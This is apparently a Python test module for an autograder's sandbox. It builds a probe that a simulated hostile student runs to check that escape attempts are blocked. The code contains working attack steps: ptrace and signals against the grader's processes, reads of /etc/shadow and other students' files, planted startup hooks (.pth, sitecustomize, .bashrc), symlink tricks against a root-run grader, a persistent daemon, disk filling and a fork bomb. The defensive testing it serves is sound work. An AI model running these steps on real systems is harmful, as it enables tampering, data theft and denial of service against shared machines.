"""Hostile submissions against the OS sandbox (issue 26): what a student who has read
``autograder/grader/isolation/sandbox.py`` tries from the kernel, from processes it starts, and -- in a
Ray lab -- from a Ray task.

:data:`PROBE` is one function, ``attack(T, who, only=None)``, pasted into a code cell added
after the solution's last graded cell (so the solution's points are exactly what the attacker
earns). ``T`` holds what the test knows and a student could learn (the grader's pid, a canary
process's pid, host paths of the course, of another student's submission, of canary files, a
TCP port the test listens on); see :func:`targets`. Every attempt is recorded as

* ``"blocked: <why>"``     -- the capability was not there (what the sandbox must give), or
* ``"GOT: <evidence>"``    -- it was (a finding, unless the attempt is one of :data:`PRIVATE`,
  which only reach the sandbox's own throw-away home, ``/tmp`` or ``/dev/shm``),

into ``os-attacks-<who>.json`` in the notebook's own folder (which the grader brings back to
``autograded/<student>/<lab>/``) and printed into the cell's output. The test then checks
the outside: canary files and process untouched, no file the attacker wrote where a later
process would read it, no process of the sandbox's users left, no connection accepted.

Most attempts have no static finding (``pathlib`` writes, ``open``, ``ctypes``, ``os.posix_spawn``);
the few ``os.kill`` / ``os.setpriority`` calls are flagged, which does not matter: the sandbox
must make them fail.
"""

from __future__ import annotations

import json
import os
import secrets

MARK = "sbxattack"

PROBE = r'''
def attack(T, who, only=None, skip=(), save=True):
    import ctypes, errno, json, os, pathlib, signal, socket, subprocess, sys, time
    R = {}
    here = pathlib.Path.cwd()
    out = here / f"os-attacks-{who}.json"
    libc = ctypes.CDLL(None, use_errno=True)
    mark = T["mark"]

    class Blocked(Exception):
        pass

    def attempt(name, fn):
        if (only is not None and name not in only) or name.startswith(tuple(skip)):
            return
        R[name] = "started (the process died during it, if this stays)"
        if save:
            out.write_text(json.dumps(R, indent=1))
        try:
            got = fn()
            R[name] = "GOT: " + str(got)[:300]
        except Exception as exc:
            R[name] = f"blocked: {type(exc).__name__}: {str(exc)[:200]}"
        if save:
            out.write_text(json.dumps(R, indent=1))

    def ck(rc, what):
        if rc != 0:
            e = ctypes.get_errno()
            raise OSError(e, f"{what}: {os.strerror(e)}")
        return rc

    me = os.getuid()
    # -- processes: see, signal, stop, renice, trace, read the grader's ---------------------------
    def ancestors():
        chain, pid = set(), os.getpid()
        while pid > 1:
            try:
                pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                break
            chain.add(pid)
        return chain
    launchers = ancestors()  # the sandbox's own bubblewrap (pid 1, or the one a Ray lab's kernel runs under)
    def scan(everyone=False):
        foreign = []
        for p in os.listdir("/proc"):
            if not p.isdigit():
                continue
            try:
                uid = int(next(l for l in open(f"/proc/{p}/status") if l.startswith("Uid:")).split()[1])
                cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")
            except Exception:
                continue
            if (uid != me or everyone) and not (int(p) in launchers | {1} and "bwrap" in cmd):  # the sandbox's own
                foreign.append((int(p), uid, cmd))
        return foreign
    def see():
        f = scan()
        if not f:
            raise Blocked("only the sandbox's own processes are visible")
        return f"{len(f)} processes of other users visible, e.g. {[(a, b, c[:60]) for a, b, c in f[:3]]}"
    attempt("see-other-users-processes", see)
    def netns(pid):
        try:
            return os.readlink(f"/proc/{pid}/ns/net")
        except OSError:
            return None
    mine = netns("self")
    def find(word, owner=None, ours=False):
        # ours: only processes of this grading (in this sandbox's network, or a process whose
        # namespaces are not readable: a non-dumpable one), not another grading's on the machine
        hits = [pid for pid, uid, cmd in scan(everyone=True) if word in cmd and owner in (None, uid)
                and (not ours or netns(pid) in (mine, None))]
        if not hits:
            raise Blocked(f"no visible process runs {word!r}")
        return hits
    targets = {"grader": T["grader_pid"], "canary": T["canary_pid"]}
    def by_scan():
        return find(T["canary_word"])
    attempt("find-canary-by-scanning-proc", by_scan)
    for who_, pid in targets.items():
        attempt(f"stop-{who_}-SIGSTOP", lambda pid=pid: (os.kill(pid, signal.SIGSTOP), os.kill(pid, signal.SIGCONT), "stopped and resumed")[-1])
        attempt(f"signal-{who_}-libc-kill", lambda pid=pid: ck(libc.kill(pid, 0), "kill(pid, 0)") or "may signal it")
        attempt(f"renice-{who_}", lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid)) or "may renice it")
        attempt(f"ptrace-{who_}", lambda pid=pid: (ck(libc.ptrace(16, pid, None, None), "PTRACE_ATTACH"),
                                               time.sleep(0.2), libc.ptrace(17, pid, None, None), "attached")[-1])
        for f in ("environ", "cmdline", "mem", "maps", "cwd"):
            def read(pid=pid, f=f):
                p = pathlib.Path(f"/proc/{pid}/{f}")
                if f == "cwd":
                    return os.readlink(p)
                if f == "mem":
                    with open(p, "rb") as fh:
                        fh.seek(0x400000)
                        return fh.read(16)
                data = p.read_bytes()
                if not data:
                    raise Blocked("empty")
                return data[:120]
            attempt(f"read-{who_}-proc-{f}", read)
    # the grader's other processes (a Ray lab's reference process and Ray run as a user of their own)
    for word in T.get("grader_words", []):
        def first(word=word):
            return find(word, T.get("grader_ray_uid"), ours=True)[0]
        attempt(f"find-{word}", first)
        if not R.get(f"find-{word}", "").startswith("GOT"):
            continue
        pid = int(R[f"find-{word}"].split()[1])
        attempt(f"signal-{word}", lambda pid=pid: ck(libc.kill(pid, 0), "kill(pid, 0)") or f"may signal pid {pid}")
        attempt(f"renice-{word}", lambda pid=pid: os.setpriority(os.PRIO_PROCESS, pid, os.getpriority(os.PRIO_PROCESS, pid)) or f"may renice pid {pid}")
        attempt(f"ptrace-{word}", lambda pid=pid: (ck(libc.ptrace(16, pid, None, None), "PTRACE_ATTACH"),
                                                time.sleep(0.2), libc.ptrace(17, pid, None, None), f"attached to {pid}")[-1])
        attempt(f"read-{word}-proc-environ", lambda pid=pid: [e for e in pathlib.Path(f"/proc/{pid}/environ").read_bytes().split(b"\0")
                                                            if e.startswith((b"AUTOGRADER", b"RAY"))][:4] or "readable")
        attempt(f"pin-{word}", lambda pid=pid: os.sched_setaffinity(pid, os.sched_getaffinity(pid)) or f"may pin pid {pid} to a CPU")
        attempt(f"open-{word}-proc-mem", lambda pid=pid: open(f"/proc/{pid}/mem", "r+b").close() or f"may write pid {pid}'s memory")
    def other_gradings():  # a sandboxed process of another grading on this machine, signalled with 0 (no effect)
        others = [pid for pid, uid, cmd in scan() if uid in (T.get("grader_ray_uid"), me) and netns(pid) not in (mine, None)]
        if not others:
            raise Blocked("no process of another sandbox visible")
        reached = [pid for pid in others if libc.kill(pid, 0) == 0]
        if not reached:
            raise Blocked(f"{len(others)} visible, none may be signalled")
        return f"may signal {len(reached)} processes of other sandboxes, e.g. {reached[:5]}"
    attempt("signal-other-gradings", other_gradings)
    def reference_side():  # a lab whose reference has a Ray of its own: that Ray and the reference process
        seen = [(pid, cmd[:60]) for pid, uid, cmd in scan(everyone=True) if uid == T.get("reference_uid")]
        if not seen:
            raise Blocked("no process of the reference's user is visible")
        reached = [pid for pid, _ in seen if libc.kill(pid, 0) == 0]
        return f"sees {len(seen)} ({len(reached)} may be signalled), e.g. {seen[:3]}"
    attempt("find-reference-side", reference_side)
    attempt("kill-sandbox-init", lambda: os.kill(1, signal.SIGKILL) or "killed pid 1")
    # -- files: the grader's, the kit's, the course's, another student's -------------------------
    def read(p):
        return lambda: pathlib.Path(p).read_bytes()[:60] or "(empty, but readable)"
    def write(p, text="# " + mark + "\n"):
        def go():
            q = pathlib.Path(p)
            with open(q, "a") as fh:
                fh.write(text)
            return f"appended to {q}"
        return go
    def listing(p, allowed=()):
        def go():
            names = sorted(set(os.listdir(p)) - set(allowed))
            if not names:
                raise Blocked(f"nothing there but {sorted(allowed)}")
            return names[:10]
        return go
    attempt("read-canary-file", read(T["canary_file"]))
    attempt("write-canary-file", write(T["canary_file"]))
    attempt("list-grader-home", listing(T["grader_home"], T["home_allowed"]))
    attempt("read-grader-home-bashrc", read(os.path.join(T["grader_home"], ".bashrc")))
    attempt("write-grader-home-bashrc", write(os.path.join(T["grader_home"], ".bashrc")))
    attempt("write-grader-ipython-startup", write(os.path.join(T["grader_home"], ".ipython/profile_default/startup", f"00-{mark}.py")))
    attempt("list-course", listing(T["course"]))
    attempt("read-course-gradebook", read(os.path.join(T["course"], "gradebook.db")))
    attempt("write-course-gradebook", write(os.path.join(T["course"], "gradebook.db")))
    attempt("read-other-student", read(T["other_submission"]))
    attempt("write-other-student", write(T["other_submission"]))
    attempt("list-kit-reference", listing(os.path.dirname(os.path.join(T["kit"], "autograder", T["reference_file"]))))
    attempt("read-kit-reference", read(os.path.join(T["kit"], "autograder", T["reference_file"])))
    for i, k in enumerate(T["other_kits"]):
        attempt(f"read-installed-kit-reference-{i}", read(os.path.join(k, "autograder", T["reference_file"])))
    attempt("write-kit-course-package", write(os.path.join(T["kit"], "course", "__init__.py")))
    attempt("create-kit-module", write(os.path.join(T["kit"], "autograder", f"{mark}.py")))
    import site, sysconfig
    attempt("create-site-packages-pth", write(os.path.join(sysconfig.get_paths()["purelib"], f"{mark}.pth"),
                                              "import os; os.environ['SBX'] = '1'\n"))
    attempt("create-sitecustomize", write(os.path.join(sysconfig.get_paths()["stdlib"], "sitecustomize.py")))
    attempt("read-etc-shadow", read("/etc/shadow"))
    attempt("write-etc", write("/etc/" + mark))
    attempt("write-proc-sys-core-pattern", write("/proc/sys/kernel/core_pattern", "|/bin/true"))
    # -- configuration later processes read: the sandbox's own home, /tmp, /dev/shm (PRIVATE:
    #    these writes succeed; the test checks nothing of them is seen outside or later)
    home = pathlib.Path.home()
    hook = ("import pathlib, os\n"
            f"pathlib.Path(os.getcwd(), 'PWNED-{mark}.txt').write_text('code of the attacker ran in ' + os.getcwd())\n")
    planted = {
        "ipython-startup": home / ".ipython/profile_default/startup" / f"00-{mark}.py",
        "ipythondir-startup": pathlib.Path(os.environ.get("IPYTHONDIR", str(home / ".ipython"))) / "profile_default/startup" / f"00-{mark}.py",
        "jupyter-config": home / ".jupyter" / "jupyter_server_config.py",
        "matplotlibrc": home / ".config/matplotlib/matplotlibrc",
        "ray-config": home / ".ray" / f"{mark}.yaml",
        "pip-conf": home / ".config/pip/pip.conf",
        "pip-conf-legacy": home / ".pip/pip.conf",
        "bashrc": home / ".bashrc",
        "user-site-pth": pathlib.Path(site.getusersitepackages()) / f"{mark}.pth",
        "tmp-hook": pathlib.Path("/tmp") / f"{mark}-hook.py",
        "tmp-leftover": pathlib.Path(T["host_tmp_dir"]) / f"{mark}-leftover",
        "shm-hook": pathlib.Path("/dev/shm") / f"{mark}-hook.py",
    }
    for name, p in planted.items():
        def plant(p=p):
            p.parent.mkdir(parents=True, exist_ok=True)
            text = hook if p.suffix == ".py" else ("import os; exec(" + repr("try:\n" + "".join(" " + l for l in hook.splitlines(True)) + "except Exception:\n pass\n") + ")\n"
                                                   if p.suffix == ".pth" else f"# {mark}\n")
            p.write_text(text)
            return f"wrote {p}"
        attempt(f"plant-{name}", plant)
    # -- root writes through a link the learner plants in its own folder ---------------------------
    def plant_link(name, target):
        def go():
            link = here / name
            if link.exists() or link.is_symlink():
                link.unlink()
            link.symlink_to(target)
            return f"{link} -> {target} (nbgrader, as root, may now write or chmod through it)"
        return go
    attempt("link-notebook-to-host-file", plant_link(T["notebook_name"], T["overwrite_canary"]))
    attempt("link-file-to-host-file", plant_link(f"notes-{mark}.txt", T["chmod_canary"]))
    # -- network -----------------------------------------------------------------------------------
    def tcp(host, port):
        def go():
            s = socket.create_connection((host, port), timeout=3)
            s.sendall(f"{mark} {who}\n".encode())
            s.close()
            return f"connected to {host}:{port}"
        return go
    attempt("tcp-host-loopback-listener", tcp("127.0.0.1", T["port"]))
    attempt("tcp-outside", tcp(T["outside"], 443))
    attempt("dns-lookup", lambda: socket.getaddrinfo("example.com", 443)[0][4])
    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.sendto(b"x", (T["outside"], 53))
        return "sent a datagram"
    attempt("udp-outside", udp)
    # -- a process that outlives the kernel (double fork, new session, ignores SIGTERM/SIGHUP) --
    def daemon():
        # a fresh Python does the double fork (forking the kernel itself deadlocks in the
        # at-fork handlers of its libraries' threads): it leaves, its grandchild stays
        code = ("import os, signal, time\n"
                "if os.fork(): os._exit(0)\n"
                "os.setsid()\n"
                "if os.fork(): os._exit(0)\n"
                "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)\n"
                "time.sleep(900)\n")
        first = subprocess.Popen([sys.executable, "-c", code, T["daemon_word"]], start_new_session=True,
                                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        first.wait(timeout=60)
        time.sleep(1)
        alive = find(T["daemon_word"])
        return f"daemon running as pid(s) {alive} (in the sandbox's view)"
    attempt("leave-daemon", daemon)
    # -- fill /tmp, /dev/shm and the grader-made folders it may write (its IPython profile's):
    # -- a size-capped tmpfs must stop each, never the disk the grader and others share ----------
    def fill(folder, cap):
        folder = os.path.expandvars(folder)
        def go():
            chunk = b"\xa5" * (64 * 2**20)
            total, files = 0, []
            try:
                while total < cap:
                    p = pathlib.Path(folder) / f"{mark}-fill-{len(files)}"
                    files.append(p)
                    fd = os.open(p, os.O_WRONLY | os.O_CREAT, 0o600)
                    try:
                        for _ in range(16):  # 1 GiB a file
                            total += os.write(fd, chunk)
                    finally:
                        os.close(fd)
                return f"wrote {total / 2**30:.2f} GiB without hitting a limit"
            except OSError as exc:
                raise Blocked(f"stopped after {total / 2**30:.2f} GiB: errno {exc.errno} ({exc.strerror})")
            finally:
                for p in files:
                    p.unlink(missing_ok=True)
        return go
    for name, (folder, cap) in T["fill"].items():
        attempt(f"fill-{name}", fill(folder, cap))
    # -- fork bomb (posix_spawn: cheap, no static finding), then reap them all -----------------------
    def forkbomb():
        kids = []
        try:
            while len(kids) < T["fork_cap"]:
                kids.append(os.posix_spawn("/bin/sleep", ["sleep", "120"], os.environ))
            return f"spawned {len(kids)} processes without hitting a limit"
        except OSError as exc:
            raise Blocked(f"stopped after {len(kids)} processes: errno {exc.errno} ({exc.strerror})")
        finally:
            for k in kids:
                try:
                    os.kill(k, signal.SIGKILL)
                    os.waitpid(k, 0)
                except OSError:
                    pass
    attempt("fork-bomb", forkbomb)
    print("OS-ATTACK-REPORT " + who + " " + json.dumps(R))  # read back from the graded notebook
    return R
'''

# attempts that reach only the sandbox's own, thrown-away state: they succeed by design
PRIVATE = ("plant-", "link-", "leave-")


def targets(**known) -> dict:
    """The attack's ``T``: what the test tells the attacker (all of it a student could learn)."""
    token = secrets.token_hex(4)
    return {"mark": MARK, "daemon_word": f"{MARK}-daemon-{token}", "fill": {"tmp": ["/tmp", 3 * 2**30], "ipython": ["$IPYTHONDIR", 3 * 2**30]},
            "home_allowed": [".pyenv"], "fork_cap": 4000,
            "outside": "1.1.1.1", "grader_ray_uid": 61001, "reference_uid": 61002, "grader_pid": os.getpid(), "grader_home": os.path.expanduser("~"), **known}


def cell(T: dict, who: str, only=None, skip=()) -> str:
    """The source of the code cell that runs the attack as ``who`` (``skip``: prefixes of attempts left out)."""
    return f"{PROBE}\nT = json.loads({json.dumps(json.dumps(T))})\n_R = attack(T, {who!r}, {only!r}, {tuple(skip)!r})\n".replace(
        "\ndef attack", "import json\n\ndef attack", 1)


def ray_task_cell(T: dict) -> str:
    """The source of a code cell that runs the attack in a task of the lab's Ray (the learner's
    own Ray work runs there: on the grader's Ray, in its sandbox) and keeps its report."""
    return (f"import json, pathlib, ray\n"
            f"_SRC = {PROBE!r}\n"
            f"T = json.loads({json.dumps(json.dumps(T))})\n"
            "@ray.remote(num_cpus=0)\n"
            "def _attack_from_a_task(src, T):\n"
            "    ns = {}\n"
            "    exec(src, ns)\n"
            "    return ns['attack'](T, 'ray-task', skip=('fill-', 'fork-', 'plant-', 'link-'), save=False)\n"
            "_RT = ray.get(_attack_from_a_task.remote(_SRC, T), timeout=600)\n"
            "pathlib.Path('os-attacks-ray-task.json').write_text(json.dumps(_RT, indent=1))\n"
            "print('OS-ATTACK-REPORT ray-task ' + json.dumps(_RT))\n")


def findings(report: dict) -> dict:
    """The attempts that got a capability they must not have (the sandbox's own state excepted)."""
    return {k: v for k, v in report.items() if v.startswith("GOT") and not k.startswith(PRIVATE)}
